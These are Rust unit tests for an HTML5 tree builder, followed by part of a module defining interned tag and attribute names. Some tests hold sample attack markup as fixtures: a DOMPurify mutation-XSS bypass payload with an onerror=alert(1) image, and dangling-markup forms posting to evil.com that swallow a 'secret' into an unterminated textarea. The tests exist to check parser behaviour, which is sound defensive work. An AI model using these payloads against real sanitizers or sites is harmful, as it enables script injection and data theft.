    assert_eq!(dom.text_content(body), "hello");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::ImplicitHtml)));
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::ImplicitHead)));
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::ImplicitBody { .. })));
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::MissingDoctype)));
    out.dom.check_invariants().unwrap();
}

#[test]
fn explicit_document_has_no_structure_events() {
    let out =
        parse_doc("<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>");
    assert!(!has_event(&out, |k| matches!(
        k,
        TreeEventKind::ImplicitHtml
            | TreeEventKind::ImplicitHead
            | TreeEventKind::ImplicitBody { .. }
            | TreeEventKind::HeadClosedBy { .. }
            | TreeEventKind::MissingDoctype
    )));
    assert_eq!(out.quirks, QuirksMode::NoQuirks);
}

#[test]
fn missing_doctype_is_quirks() {
    let out = parse_doc("<html><body></body></html>");
    assert_eq!(out.quirks, QuirksMode::Quirks);
}

#[test]
fn implied_p_close() {
    assert_eq!(body_html("<p>one<p>two"), "<p>one</p><p>two</p>");
}

#[test]
fn nested_divs() {
    assert_eq!(body_html("<div><div>x</div></div>"), "<div><div>x</div></div>");
}

#[test]
fn list_items_imply_close() {
    assert_eq!(body_html("<ul><li>a<li>b</ul>"), "<ul><li>a</li><li>b</li></ul>");
}

#[test]
fn dd_dt_imply_close() {
    assert_eq!(body_html("<dl><dt>t<dd>d<dd>e</dl>"), "<dl><dt>t</dt><dd>d</dd><dd>e</dd></dl>");
}

#[test]
fn formatting_misnesting_adoption_agency() {
    // The classic <b><i></b></i> case.
    let html = body_html("<b>1<i>2</b>3</i>");
    assert_eq!(html, "<b>1<i>2</i></b><i>3</i>");
}

#[test]
fn adoption_agency_with_block() {
    let html = body_html("<a>1<div>2<div>3</a>4</div></div>");
    // html5lib-tests expected shape: the <a> is cloned into the divs.
    assert_eq!(html, "<a>1</a><div><a>2</a><div><a>3</a>4</div></div>");
}

#[test]
fn active_formatting_reconstructed_across_blocks() {
    // <p> does not close <b>: the paragraph nests inside it.
    let html = body_html("<b>bold<p>still bold</p>");
    assert_eq!(html, "<b>bold<p>still bold</p></b>");
    // But across a table-fostered boundary, reconstruction re-creates it.
    let html2 = body_html("<table><b>styled</table>plain");
    assert!(html2.starts_with("<b>styled</b>"), "{html2}");
    assert!(html2.contains("<table></table>"));
    assert!(html2.contains("<b>plain</b>"), "{html2}");
}

// ----- head / body events (HF1, HF2, HF3) -----

#[test]
fn hf1_div_in_head_closes_head() {
    let out = parse_doc("<html><head><div>oops</div><meta charset=x></head><body></body></html>");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::HeadClosedBy { tag } if tag == "div")));
    // The meta after the div ends up in the body, not the head.
    let head = out.dom.find_html("head").unwrap();
    let metas_in_head = out.dom.descendants(head).filter(|&id| out.dom.is_html(id, "meta")).count();
    assert_eq!(metas_in_head, 0);
}

#[test]
fn hf1_h1_around_title_google_style() {
    // Figure 12-like: content that belongs in head arriving via body.
    let out = parse_doc("<head><h1><title>t</title></h1></head>");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::HeadClosedBy { .. })));
}

#[test]
fn head_omitted_tags_are_events() {
    let out = parse_doc("<!DOCTYPE html><meta charset=utf-8><title>x</title><p>hi");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::ImplicitHead)));
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::ImplicitBody { .. })));
    // The meta and title still land inside the implied head.
    let head = out.dom.find_html("head").unwrap();
    assert!(out.dom.descendants(head).any(|id| out.dom.is_html(id, "meta")));
    assert!(out.dom.descendants(head).any(|id| out.dom.is_html(id, "title")));
}

#[test]
fn hf2_content_before_body() {
    let out = parse_doc("<!DOCTYPE html><html><head></head><p<body onload=\"check()\">x");
    // `<p<body ...>` lexes as a p tag with weird attrs; body is absorbed.
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::ImplicitBody { .. })));
    let body = out.dom.find_html("body").unwrap();
    // The onload security check is gone.
    assert!(out.dom.element(body).unwrap().attr("onload").is_none());
}

#[test]
fn hf3_second_body_merges_attributes() {
    let out = parse_doc(
        "<!DOCTYPE html><body class=a onload=first()><p>x</p><body onload=second() id=late>",
    );
    let body = out.dom.find_html("body").unwrap();
    let e = out.dom.element(body).unwrap();
    // Existing attribute wins; new one is added.
    assert_eq!(e.attr("onload"), Some("first()"));
    assert_eq!(e.attr("id"), Some("late"));
    assert!(has_event(&out, |k| matches!(
        k,
        TreeEventKind::SecondBodyMerged { new_attrs, ignored_attrs }
            if new_attrs.contains(&"id".to_string())
                && ignored_attrs.contains(&"onload".to_string())
    )));
}

#[test]
fn late_head_content_reenters_head() {
    let out = parse_doc("<!DOCTYPE html><head></head><meta charset=utf-8><body>x</body>");
    assert!(has_event(
        &out,
        |k| matches!(k, TreeEventKind::LateHeadContent { tag } if tag == "meta")
    ));
    let head = out.dom.find_html("head").unwrap();
    assert!(out.dom.descendants(head).any(|id| out.dom.is_html(id, "meta")));
}

#[test]
fn meta_in_body_stays_in_body() {
    // DM1's DOM shape: meta inside body is NOT relocated.
    let out =
        parse_doc("<!DOCTYPE html><head></head><body><meta http-equiv=refresh content=0></body>");
    let body = out.dom.find_html("body").unwrap();
    assert!(out.dom.descendants(body).any(|id| out.dom.is_html(id, "meta")));
}

// ----- tables (HF4) -----

#[test]
fn table_with_proper_structure() {
    let html = body_html("<table><tr><td>x</td></tr></table>");
    assert_eq!(html, "<table><tbody><tr><td>x</td></tr></tbody></table>");
}

#[test]
fn hf4_strong_in_tr_is_foster_parented() {
    // Figure 11: a <strong> directly inside <tr> hops out of the table.
    let out = parse_doc(
        "<body><table><tr><strong>Cozi Organizer</strong></tr><tr><td>x</td></tr></table>",
    );
    assert!(has_event(&out, |k| matches!(
        k,
        TreeEventKind::FosterParented { tag: Some(t) } if t == "strong"
    )));
    let body = out.dom.find_html("body").unwrap();
    let html = crate::serializer::serialize_children(&out.dom, body);
    // The strong lands before the table.
    let strong_pos = html.find("<strong>").unwrap();
    let table_pos = html.find("<table>").unwrap();
    assert!(strong_pos < table_pos, "strong must be foster-parented before table: {html}");
}

#[test]
fn hf4_text_in_table_is_foster_parented() {
    let out = parse_doc("<body><table>loose text<tr><td>x</td></tr></table>");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::FosterParented { tag: None })));
    let body = out.dom.find_html("body").unwrap();
    let html = crate::serializer::serialize_children(&out.dom, body);
    assert!(html.starts_with("loose text<table>"));
}

#[test]
fn whitespace_in_table_is_not_fostered() {
    let out = parse_doc("<body><table> <tr><td>x</td></tr> </table>");
    assert!(!has_event(&out, |k| matches!(k, TreeEventKind::FosterParented { .. })));
}

#[test]
fn implied_tbody_and_tr() {
    let out = parse_doc("<table><td>x</td></table>");
    assert!(has_event(&out, |k| matches!(
        k,
        TreeEventKind::TableStructureImplied { tag } if tag == "tbody" || tag == "tr"
    )));
    let html = serialize(&out.dom);
    assert!(html.contains("<tbody><tr><td>x</td></tr></tbody>"));
}

#[test]
fn td_outside_table_is_stray() {
    let out = parse_doc("<body><td>x</td></body>");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::StrayStartTag { tag } if tag == "td")));
}

// ----- forms (DE4) -----

#[test]
fn de4_nested_form_ignored() {
    let out = parse_doc(
        r#"<body><form action="https://evil.com"><form id=real action="/search"><input name=q></form></body>"#,
    );
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::NestedFormIgnored)));
    // Only one form element exists, and it is the evil one.
    let forms: Vec<_> = out.dom.all_elements().filter(|&id| out.dom.is_html(id, "form")).collect();
    assert_eq!(forms.len(), 1);
    assert_eq!(out.dom.element(forms[0]).unwrap().attr("action"), Some("https://evil.com"));
}

#[test]
fn sequential_forms_are_fine() {
    let out = parse_doc("<body><form action=/a></form><form action=/b></form></body>");
    assert!(!has_event(&out, |k| matches!(k, TreeEventKind::NestedFormIgnored)));
    let forms = out.dom.all_elements().filter(|&id| out.dom.is_html(id, "form")).count();
    assert_eq!(forms, 2);
}

// ----- text content models at EOF (DE1, DE2) -----

#[test]
fn de1_unterminated_textarea_swallows_rest() {
    let out = parse_doc(
        "<body><form action=https://evil.com><input type=submit><textarea>\n<p>My little secret</p>",
    );
    assert!(out.open_at_eof.contains(&"textarea".to_string()));
    assert!(has_event(&out, |k| matches!(
        k,
        TreeEventKind::EofInTextContent { tag } if tag == "textarea"
    )));
    // The "secret" became the textarea's text.
    let ta = out.dom.find_html("textarea").unwrap();
    assert!(out.dom.text_content(ta).contains("My little secret"));
}

#[test]
fn de2_unterminated_select_swallows_content() {
    let out = parse_doc("<body><select><option>a<p id=private>secret</p>");
    assert!(out.open_at_eof.contains(&"select".to_string()));
    // Tags inside select are dropped but their text kept.
    let sel = out.dom.find_html("select").unwrap();
    assert!(out.dom.text_content(sel).contains("secret"));
    assert!(out.dom.descendants(sel).all(|id| !out.dom.is_html(id, "p")));
}

#[test]
fn closed_textarea_is_clean() {
    let out = parse_doc("<body><textarea>x</textarea><p>after</p></body>");
    assert!(!out.open_at_eof.contains(&"textarea".to_string()));
    assert!(!has_event(&out, |k| matches!(k, TreeEventKind::EofInTextContent { .. })));
}

// ----- select behaviour -----

#[test]
fn select_drops_non_option_tags() {
    let out = parse_doc("<body><select><option>a</option><div>b</div></select></body>");
    let sel = out.dom.find_html("select").unwrap();
    assert!(out.dom.descendants(sel).all(|id| !out.dom.is_html(id, "div")));
    assert!(out.dom.text_content(sel).contains('b'));
}

#[test]
fn option_closed_by_next_option() {
    let html = body_html("<select><option>a<option>b</select>");
    assert_eq!(html, "<select><option>a</option><option>b</option></select>");
}

#[test]
fn select_in_table_closed_by_cell_tags() {
    let out = parse_doc("<table><tr><td><select><option>x<td>next</table>");
    let html = serialize(&out.dom);
    assert!(html.contains("</select></td><td>next</td>"));
}

// ----- foreign content (HF5, Figure 1) -----

#[test]
fn svg_elements_get_svg_namespace() {
    let out = parse_doc("<body><svg><circle r=5></circle></svg></body>");
    let circle =
        out.dom.all_elements().find(|&id| out.dom.element(id).unwrap().name == "circle").unwrap();
    assert_eq!(out.dom.element(circle).unwrap().ns, Namespace::Svg);
}

#[test]
fn svg_camel_case_fixups() {
    let out = parse_doc("<svg><foreignobject><div>html here</div></foreignobject></svg>");
    let fo =
        out.dom.all_elements().find(|&id| out.dom.element(id).unwrap().name == "foreignObject");
    assert!(fo.is_some(), "lowercased tag must be restored to foreignObject");
    // The div inside the integration point is HTML.
    let div = out.dom.find_html("div").unwrap();
    assert_eq!(out.dom.element(div).unwrap().ns, Namespace::Html);
}

#[test]
fn hf5_breakout_pops_foreign_elements() {
    let out = parse_doc("<body><svg><rect></rect><div>break</div></svg></body>");
    assert!(has_event(&out, |k| matches!(
        k,
        TreeEventKind::ForeignBreakout { tag, root_ns: Namespace::Svg } if tag == "div"
    )));
    let div = out.dom.find_html("div").unwrap();
    assert_eq!(out.dom.element(div).unwrap().ns, Namespace::Html);
    // The div is a sibling of the svg, not inside it.
    let svg =
        out.dom.all_elements().find(|&id| out.dom.element(id).unwrap().name == "svg").unwrap();
    assert!(!out.dom.is_inclusive_ancestor(svg, div));
}

#[test]
fn math_text_integration_point_parses_html() {
    let out = parse_doc("<body><math><mtext><b>bold</b></mtext></math></body>");
    let b = out.dom.find_html("b").unwrap();
    assert_eq!(out.dom.element(b).unwrap().ns, Namespace::Html);
    // And it stays inside mtext.
    let mtext =
        out.dom.all_elements().find(|&id| out.dom.element(id).unwrap().name == "mtext").unwrap();
    assert!(out.dom.is_inclusive_ancestor(mtext, b));
}

#[test]
fn mglyph_at_integration_point_stays_mathml() {
    let out = parse_doc("<body><math><mtext><mglyph></mglyph></mtext></math></body>");
    let mglyph =
        out.dom.all_elements().find(|&id| out.dom.element(id).unwrap().name == "mglyph").unwrap();
    assert_eq!(out.dom.element(mglyph).unwrap().ns, Namespace::MathMl);
}

#[test]
fn style_in_foreign_content_is_not_rawtext() {
    // In MathML, <style> content parses as markup: a comment is a comment.
    let out = parse_doc("<body><math><mglyph><style><!--x--></style></mglyph></math></body>");
    let style =
        out.dom.all_elements().find(|&id| out.dom.element(id).unwrap().name == "style").unwrap();
    assert_eq!(out.dom.element(style).unwrap().ns, Namespace::MathMl);
    let has_comment =
        out.dom.descendants(style).any(|id| matches!(&out.dom.node(id).data, NodeData::Comment(_)));
    assert!(has_comment, "comment inside foreign <style> must be a real comment node");
}

#[test]
fn figure1_mxss_mutation() {
    // The DOMPurify bypass: after one parse+serialize, the payload mutates.
    let payload = concat!(
        "<math><mtext><table><mglyph><style><!--</style>",
        "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    );
    let out = parse_doc(payload);
    let html = serialize(&out.dom);
    // Mutation 1: the entities in the title decoded.
    assert!(html.contains("--><img src=1 onerror=alert(1)>"), "entities must decode: {html}");
    // Mutation 2: mglyph/style moved in front of the table.
    let mglyph = html.find("<mglyph>").expect("mglyph survives");
    let table = html.find("<table>").expect("table survives");
    assert!(mglyph < table, "mglyph must be foster-parented before the table: {html}");
    // Mutation 3: inside <style> (MathML) the `<!--` stayed *text/comment*,
    // so the serialized form re-parses differently — the essence of mXSS.
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::FosterParented { .. })));
}

// ----- stray end tags & misc -----

#[test]
fn stray_end_tag_event() {
    let out = parse_doc("<body><p>x</p></div></body>");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::StrayEndTag { tag } if tag == "div")));
}

#[test]
fn second_head_ignored() {
    let out = parse_doc("<head></head><head></head><body></body>");
    assert!(has_event(&out, |k| matches!(k, TreeEventKind::SecondHeadIgnored)));
}

#[test]
fn br_end_tag_becomes_br() {
    let html = body_html("a</br>b");
    assert_eq!(html, "a<br>b");
}

#[test]
fn plaintext_swallows_everything() {
    let out = parse_doc("<body><plaintext><div>not a tag");
    let pt = out.dom.find_html("plaintext").unwrap();
    assert_eq!(out.dom.text_content(pt), "<div>not a tag");
}

#[test]
fn script_content_preserved() {
    let out = parse_doc("<head><script>var a = '<div>';</script></head>");
    let script = out.dom.find_html("script").unwrap();
    assert_eq!(out.dom.text_content(script), "var a = '<div>';");
}

#[test]
fn comments_attach_in_place() {
    let out = parse_doc("<!-- top --><!DOCTYPE html><body><!-- inner --></body><!-- trail -->");
    let html = serialize(&out.dom);
    assert!(html.starts_with("<!-- top -->"));
    assert!(html.contains("<body><!-- inner -->"));
    // A comment after </body> attaches to the html element.
    assert!(html.ends_with("<!-- trail --></html>"), "{html}");
}

#[test]
fn pre_strips_first_newline() {
    let html = body_html("<pre>\nkeep</pre>");
    assert_eq!(html, "<pre>keep</pre>");
}

#[test]
fn textarea_strips_first_newline() {
    let html = body_html("<textarea>\nkeep</textarea>");
    assert_eq!(html, "<textarea>keep</textarea>");
}

#[test]
fn invariants_hold_on_pathological_inputs() {
    for input in [
        "<table><table><table>x",
        "<b><i><u><b><i><u>deep</b></i>",
        "<select><select><option><select>",
        "<svg><math><svg><div><math>",
        "</a></b></c><p></p></p></p>",
        "<head><head><body><body><html>",
        "<form><table><form><tr><form>",
    ] {
        let out = parse_doc(input);
        out.dom.check_invariants().unwrap_or_else(|e| panic!("{input}: {e}"));
    }
}

// ----- fragment parsing (§13.2.4) -----

mod fragments {
    use super::*;
    use crate::serializer::serialize_children;
    use crate::tree_builder::{fragment_children, parse_fragment};

    fn frag(input: &str, context: &str) -> String {
        let out = parse_fragment(input, context);
        let root = out.dom.children(out.dom.root()).next().expect("synthetic root");
        serialize_children(&out.dom, root)
    }

    #[test]
    fn div_context_plain() {
        assert_eq!(frag("<p>a<p>b", "div"), "<p>a</p><p>b</p>");
    }

    #[test]
    fn no_implied_html_head_body() {
        let out = parse_fragment("<b>x</b>", "div");
        assert!(out.events.is_empty(), "{:?}", out.events);
        assert_eq!(fragment_children(&out).len(), 1);
    }

    #[test]
    fn td_context_keeps_table_rules() {
        // In a td context the insertion mode resets to "in cell"-ish
        // behaviour: a <tr> is stray table structure.
        let out = parse_fragment("<tr><td>x</td></tr>", "table");
        let root = out.dom.children(out.dom.root()).next().unwrap();
        let html = serialize_children(&out.dom, root);
        assert!(html.contains("<tbody><tr><td>x</td></tr></tbody>"), "{html}");
    }

    #[test]
    fn select_context_strips_tags() {
        assert_eq!(frag("<option>a</option><div>b</div>", "select"), "<option>a</option>b");
    }

    #[test]
    fn textarea_context_is_rcdata() {
        // The context element's content model applies to the whole input.
        assert_eq!(frag("<p>not markup</p>", "textarea"), "&lt;p&gt;not markup&lt;/p&gt;");
    }

    #[test]
    fn script_context_is_script_data() {
        // The `<` must survive as text (script data state), not become a
        // tag. (Serialization escapes it because the synthetic fragment
        // root is not itself a script element.)
        let out = parse_fragment("if (a < b) { x(\"</div>\"); }", "script");
        let root = out.dom.children(out.dom.root()).next().unwrap();
        assert_eq!(out.dom.text_content(root), "if (a < b) { x(\"</div>\"); }");
        assert_eq!(out.dom.descendants(root).count(), 1, "one text node, no elements");
    }

    #[test]
    fn form_context_suppresses_nested_form() {
        let out = parse_fragment("<form action=/x><input name=q>", "form");
        assert!(out.events.iter().any(|e| matches!(e.kind, TreeEventKind::NestedFormIgnored)));
    }

    #[test]
    fn body_and_html_end_tags_are_stray_in_fragment() {
        let out = parse_fragment("a</body></html>b", "div");
        let root = out.dom.children(out.dom.root()).next().unwrap();
        assert_eq!(serialize_children(&out.dom, root), "ab");
    }

    #[test]
    fn fragment_errors_still_reported() {
        let out = parse_fragment(r#"<img src="a"alt="b">"#, "div");
        assert!(out.has_error(crate::ErrorCode::MissingWhitespaceBetweenAttributes));
    }

    #[test]
    fn fragment_dom_invariants() {
        for (input, cx) in [
            ("<table><td>x", "div"),
            ("<b><i>x</b>", "p"),
            ("</td>text<td>y", "tr"),
            ("<svg><div>z", "div"),
        ] {
            let out = parse_fragment(input, cx);
            out.dom.check_invariants().unwrap_or_else(|e| panic!("{input} in {cx}: {e}"));
        }
    }
}

// ----- thin-coverage modes: caption, colgroup, frameset -----

mod table_modes {
    use super::*;

    #[test]
    fn caption_closed_by_row() {
        // A <tr> inside caption closes the caption first.
        let html = body_html("<table><caption>c<tr><td>x</td></table>");
        assert_eq!(html, "<table><caption>c</caption><tbody><tr><td>x</td></tr></tbody></table>");
    }

    #[test]
    fn caption_formatting_cleared_at_close() {
        // Formatting opened inside the caption must not leak out (marker).
        let html = body_html("<table><caption><b>c</caption><tr><td>x</td></table>after");
        assert!(html.contains("<b>c</b></caption>"), "{html}");
        assert!(html.ends_with("after"), "bold must not leak: {html}");
    }

    #[test]
    fn colgroup_implicit_close_by_row() {
        let html = body_html("<table><colgroup><col><tr><td>x</td></table>");
        assert_eq!(
            html,
            "<table><colgroup><col></colgroup><tbody><tr><td>x</td></tr></tbody></table>"
        );
    }

    #[test]
    fn colgroup_whitespace_kept_content_deferred() {
        let out = parse_doc("<table><colgroup> <col> </colgroup><tr><td>x</td></tr></table>");
        out.dom.check_invariants().unwrap();
    }

    #[test]
    fn stray_caption_end_ignored() {
        let out = parse_doc("<body></caption><p>x</p>");
        assert!(has_event(&out, |k| matches!(k, TreeEventKind::StrayEndTag { .. })));
        assert_eq!(body_html("</caption><p>x</p>"), "<p>x</p>");
    }

    #[test]
    fn td_end_in_row_is_stray() {
        let html = body_html("<table><tr></td><td>x</td></tr></table>");
        assert_eq!(html, "<table><tbody><tr><td>x</td></tr></tbody></table>");
    }
}

mod framesets {
    use super::*;

    #[test]
    fn frameset_document_structure() {
        let out = parse_doc(
            "<!DOCTYPE html><html><head></head><frameset cols=\"50%,50%\"><frame src=\"a\"><frame src=\"b\"></frameset></html>",
        );
        out.dom.check_invariants().unwrap();
        let html = serialize(&out.dom);
        assert!(
            html.contains(
                "<frameset cols=\"50%,50%\"><frame src=\"a\"><frame src=\"b\"></frameset>"
            ),
            "{html}"
        );
        // No body in a frameset document.
        assert!(out.dom.find_html("body").is_none());
    }

    #[test]
    fn nested_framesets() {
        let out = parse_doc(
            "<head></head><frameset><frameset rows=\"*\"><frame></frameset><frame></frameset>",
        );
        let html = serialize(&out.dom);
        assert!(
            html.contains("<frameset><frameset rows=\"*\"><frame></frameset><frame></frameset>"),
            "{html}"
        );
    }

    #[test]
    fn frameset_after_body_content_ignored() {
        // Once real content exists, a frameset start tag is a stray.
        let out = parse_doc("<body><p>content</p><frameset><frame></frameset>");
        assert!(has_event(
            &out,
            |k| matches!(k, TreeEventKind::StrayStartTag { tag } if tag == "frameset")
        ));
        assert!(out.dom.find_html("body").is_some());
    }

    #[test]
    fn noframes_content_is_rawtext() {
        let out = parse_doc("<head><noframes><p>fallback</p></noframes></head>");
        let nf = out.dom.find_html("noframes").unwrap();
        assert_eq!(out.dom.text_content(nf), "<p>fallback</p>");
    }
}
