//! Interned tag/attribute names (**atoms**) and cheap shared strings.
//!
//! Tokenizing archived pages used to materialize three heap `String`s per
//! attribute and two per tag, then clone them again into the DOM. At corpus
//! scale the allocator dominated the attribute-heavy profile. This module
//! removes those allocations structurally:
//!
//! * [`Atom`] — a tag/attribute *name*. Every name the HTML/SVG/MathML
//!   specs know about (plus the common attribute vocabulary) lives in one
//!   static table, [`STATIC_ATOMS`]; a static atom is a `u16` index —
//!   `Clone` is a copy, equality is an integer compare, and classification
//!   queries (`tags::is_void` & friends) become bitset probes. Unknown
//!   names fall back to a per-parse [`Interner`] that hands out shared
//!   `Arc<str>` atoms, so author-invented names (`<wibble x-data=…>`) cost
//!   one allocation per *distinct* name per parse instead of one per use.
//! * [`SharedStr`] — an immutable attribute *value*. Values ≤ 22 bytes
//!   (the overwhelming majority in real markup) are stored inline with no
//!   heap allocation at all; longer values are a shared `Arc<str>` so the
//!   token → DOM handoff is a refcount bump, not a copy.
//!
//! Invariant (load-bearing for `Atom`'s fast equality): a dynamic atom
//! never holds text that is present in the static table. Both constructors
//! ([`Atom::from`] and [`Interner::intern`]) consult the static table
//! first, and the `Repr` enum is private, so the invariant cannot be
//! violated from outside this module. Given that, `Static(a) == Dyn(b)` is
//! always false and static-vs-static equality is `a == b` on the indices.
//!
//! Interner lifecycle: the tokenizer owns one `Interner` per parse; it is
//! constructed fresh in `Tokenizer::new`, so dynamic atoms never leak
//! between documents and the set stays small (bounded by the number of
//! distinct unknown names in one page). Atoms themselves remain valid
//! after the parse — they share ownership via `Arc` — only the dedup set
//! is per-parse.

use std::borrow::Borrow;
use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::Deref;
use std::sync::{Arc, OnceLock};

/// Every known HTML, SVG, and MathML element name, the SVG/MathML
/// mixed-case *adjusted* spellings the tree builder produces in foreign
/// content (§13.2.6.5), and the common attribute vocabulary. Grouped for
/// review; looked up through a lazily built sorted index, so order here is
/// free. Names must be unique (asserted by test and by the index builder
/// in debug builds).
///
/// This table is deliberately generous: membership is *only* a perf
/// optimization. A name missing from the table still works — it becomes a
/// dynamic atom with identical semantics.
#[rustfmt::skip]
pub static STATIC_ATOMS: &[&str] = &[
    // The empty name: Atom::default(), placeholder tags.
    "",
    // HTML elements (current + obsolete — archived pages use both).
    "a", "abbr", "acronym", "address", "applet", "area", "article", "aside", "audio", "b", "base",
    "basefont", "bdi", "bdo", "bgsound", "big", "blink", "blockquote", "body", "br", "button",
    "canvas", "caption", "center", "cite", "code", "col", "colgroup", "data", "datalist", "dd",
    "del", "details", "dfn", "dialog", "dir", "div", "dl", "dt", "em", "embed", "fieldset",
    "figcaption", "figure", "font", "footer", "form", "frame", "frameset", "h1", "h2", "h3", "h4",
    "h5", "h6", "head", "header", "hgroup", "hr", "html", "i", "iframe", "image", "img", "input",
    "ins", "isindex", "kbd", "keygen", "label", "legend", "li", "link", "listing", "main", "map",
    "mark", "marquee", "menu", "menuitem", "meta", "meter", "nav", "nobr", "noembed", "noframes",
    "noscript", "object", "ol", "optgroup", "option", "output", "p", "param", "picture",
    "plaintext", "pre", "progress", "q", "rb", "rp", "rt", "rtc", "ruby", "s", "samp", "script",
    "search", "section", "select", "slot", "small", "source", "spacer", "span", "strike",
    "strong", "style", "sub", "summary", "sup", "table", "tbody", "td", "template", "textarea",
    "tfoot", "th", "thead", "time", "title", "tr", "track", "tt", "u", "ul", "var", "video",
    "wbr", "xmp",
    // SVG elements: lowercase (as tokenized) and the §13.2.6.5 camelCase
    // fixup spellings (as stored in the DOM inside <svg>).
    "svg", "altglyph", "altGlyph", "altglyphdef", "altGlyphDef", "altglyphitem", "altGlyphItem",
    "animate", "animatecolor", "animateColor", "animatemotion", "animateMotion",
    "animatetransform", "animateTransform", "circle", "clippath", "clipPath", "defs", "desc",
    "ellipse", "feblend", "feBlend", "fecolormatrix", "feColorMatrix", "fecomponenttransfer",
    "feComponentTransfer", "fecomposite", "feComposite", "feconvolvematrix", "feConvolveMatrix",
    "fediffuselighting", "feDiffuseLighting", "fedisplacementmap", "feDisplacementMap",
    "fedistantlight", "feDistantLight", "fedropshadow", "feDropShadow", "feflood", "feFlood",
    "fefunca", "feFuncA", "fefuncb", "feFuncB", "fefuncg", "feFuncG", "fefuncr", "feFuncR",
    "fegaussianblur", "feGaussianBlur", "feimage", "feImage", "femerge", "feMerge", "femergenode",
    "feMergeNode", "femorphology", "feMorphology", "feoffset", "feOffset", "fepointlight",
    "fePointLight", "fespecularlighting", "feSpecularLighting", "fespotlight", "feSpotLight",
    "fetile", "feTile", "feturbulence", "feTurbulence", "filter", "foreignobject",
    "foreignObject", "g", "glyphref", "glyphRef", "line", "lineargradient", "linearGradient",
    "marker", "mask", "metadata", "mpath", "path", "pattern", "polygon", "polyline",
    "radialgradient", "radialGradient", "rect", "set", "stop", "switch", "symbol", "text",
    "textpath", "textPath", "tspan", "use", "view",
    // MathML elements.
    "math", "annotation", "annotation-xml", "maction", "malignmark", "merror", "mfrac", "mglyph",
    "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded", "mphantom", "mroot", "mrow", "ms",
    "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr",
    "munder", "munderover", "semantics",
    // Common attribute names (HTML). Names that double as element names
    // (abbr, cite, data, form, label, span, style, summary, title, …) are
    // already present above — the table is one namespace.
    "accept", "accept-charset", "accesskey", "action", "align",
    "allow", "allowfullscreen", "alt", "archive", "aria-controls", "aria-describedby",
    "aria-expanded", "aria-hidden", "aria-label", "aria-labelledby", "async", "autocomplete",
    "autofocus", "autoplay", "background", "bgcolor", "border", "cellpadding", "cellspacing",
    "char", "charset", "checked", "class", "classid", "clear", "codebase", "codetype", "color",
    "cols", "colspan", "content", "contenteditable", "controls", "coords", "crossorigin",
    "data-id", "data-key", "data-name", "data-rank", "data-role", "data-src", "data-target",
    "data-toggle", "data-type", "data-value", "datetime", "declare", "default", "defer",
    "disabled", "download", "draggable", "enctype", "face", "for", "formaction", "frameborder",
    "headers", "height", "hidden", "high", "href", "hreflang", "hspace", "http-equiv", "icon",
    "id", "integrity", "is", "ismap", "itemid", "itemprop", "itemref", "itemscope", "itemtype",
    "kind", "lang", "language", "list", "longdesc", "loop", "low", "manifest", "marginheight",
    "marginwidth", "max", "maxlength", "media", "method", "min", "minlength", "multiple", "muted",
    "name", "nohref", "nonce", "noresize", "noshade", "novalidate", "nowrap", "onblur",
    "onchange", "onclick", "ondblclick", "onerror", "onfocus", "onkeydown", "onkeypress",
    "onkeyup", "onload", "onmousedown", "onmousemove", "onmouseout", "onmouseover", "onmouseup",
    "onsubmit", "onunload", "open", "optimum", "ping", "placeholder", "playsinline", "poster",
    "preload", "profile", "readonly", "referrerpolicy", "rel", "required", "rev", "reversed",
    "role", "rows", "rowspan", "rules", "sandbox", "scheme", "scope", "scrolling", "selected",
    "shape", "size", "sizes", "spellcheck", "src", "srcdoc", "srclang", "srcset", "standby",
    "start", "step", "tabindex", "target", "translate", "type", "usemap", "valign", "value",
    "valuetype", "version", "vlink", "vspace", "width", "wrap", "xmlns", "xmlns:xlink",
    // Foreign-content adjusted attribute spellings (§13.2.6.5 "adjust
    // SVG/MathML attributes") and their lowercase tokenized forms.
    "definitionurl", "definitionURL", "attributename", "attributeName", "attributetype",
    "attributeType", "basefrequency", "baseFrequency", "baseprofile", "baseProfile", "calcmode",
    "calcMode", "clippathunits", "clipPathUnits", "diffuseconstant", "diffuseConstant",
    "edgemode", "edgeMode", "filterunits", "filterUnits", "gradienttransform",
    "gradientTransform", "gradientunits", "gradientUnits", "kernelmatrix", "kernelMatrix",
    "kernelunitlength", "kernelUnitLength", "keypoints", "keyPoints", "keysplines", "keySplines",
    "keytimes", "keyTimes", "lengthadjust", "lengthAdjust", "limitingconeangle",
    "limitingConeAngle", "markerheight", "markerHeight", "markerunits", "markerUnits",
    "markerwidth", "markerWidth", "maskcontentunits", "maskContentUnits", "maskunits",
    "maskUnits", "numoctaves", "numOctaves", "pathlength", "pathLength", "patterncontentunits",
    "patternContentUnits", "patterntransform", "patternTransform", "patternunits",
    "patternUnits", "pointsatx", "pointsAtX", "pointsaty", "pointsAtY", "pointsatz", "pointsAtZ",
    "preservealpha", "preserveAlpha", "preserveaspectratio", "preserveAspectRatio",
    "primitiveunits", "primitiveUnits", "refx", "refX", "refy", "refY", "repeatcount",
    "repeatCount", "repeatdur", "repeatDur", "requiredextensions", "requiredExtensions",
    "requiredfeatures", "requiredFeatures", "specularconstant", "specularConstant",
    "specularexponent", "specularExponent", "spreadmethod", "spreadMethod", "startoffset",
    "startOffset", "stddeviation", "stdDeviation", "stitchtiles", "stitchTiles", "surfacescale",
    "surfaceScale", "systemlanguage", "systemLanguage", "tablevalues", "tableValues", "targetx",
    "targetX", "targety", "targetY", "textlength", "textLength", "viewbox", "viewBox",
    "viewtarget", "viewTarget", "xchannelselector", "xChannelSelector", "ychannelselector",
    "yChannelSelector", "zoomandpan", "zoomAndPan",
];

